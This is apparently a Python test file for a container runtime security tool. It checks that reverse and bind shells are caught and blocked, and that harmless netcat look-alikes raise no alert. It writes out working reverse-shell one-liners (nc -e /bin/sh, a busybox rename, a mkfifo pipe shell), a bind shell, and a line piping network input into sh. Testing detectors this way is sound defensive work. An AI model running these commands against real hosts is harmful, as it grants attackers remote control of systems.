# SPDX-License-Identifier: Apache-2.0
"""Reverse and bind shells in real containers, harmless: the other side is the bridge, and says nothing."""
import engines
import scene

RULE = """version: 1
runtime:
  - name: no shells
    processes: {{reverse_shell: {effect}}}
"""
PORT = 4444
# What is run in the container, under other names and by other ways.
CAUGHT = (
    ("reverse_shell", f"timeout 5 nc {engines.OUTSIDE} {PORT} -e /bin/sh"),
    ("reverse_shell", f"cp /bin/busybox /tmp/sh; timeout 5 nc {engines.OUTSIDE} {PORT} -e /tmp/sh -i"),
    ("reverse_shell", f"mkfifo /tmp/f; sh -i </tmp/f 2>&1 | timeout 5 nc {engines.OUTSIDE} {PORT} >/tmp/f"),
    ("bind_shell", "(sleep 0.5; timeout 2 nc 127.0.0.1 4445 </dev/null >/dev/null) & timeout 5 nc -l -p 4445 -e /bin/sh"),
)
QUIET = (
    f"echo hello | timeout 1 nc {engines.OUTSIDE} {PORT}",
    f"timeout 1 nc {engines.OUTSIDE} {PORT} </dev/null | sh",
    f"sh -c 'echo date | sh' | timeout 1 nc {engines.OUTSIDE} {PORT}",
    "echo 'echo a' | sh | cat",
)


class Shells(scene.Scene):
    def test_each_is_told_and_none_begins(self):
        self.seawall.apply(RULE.format(effect="prevent"))
        with self.docker.outside(PORT):
            for detection, script in CAUGHT:
                with self.subTest(script):
                    box = self.bench()
                    self.inside(box, f"({script}) || true")
                    audit = self.audit(box, detection=detection, evidence="descriptor")
                    self.assertEqual(audit["done"], "prevent")
                    self.assertIn("input and output", audit["message"])

    def test_look_alikes_are_quiet(self):
        self.seawall.apply(RULE.format(effect="block"))
        with self.docker.outside(PORT):
            box = self.bench()
            for script in QUIET:
                with self.subTest(script):
                    self.inside(box, f"({script}) || true")
            self.docker.docker("exec", "-i", box, "sh", "-c", "true")
            self.assertEqual([a["message"] for a in self.seawall.audits(box)], [])
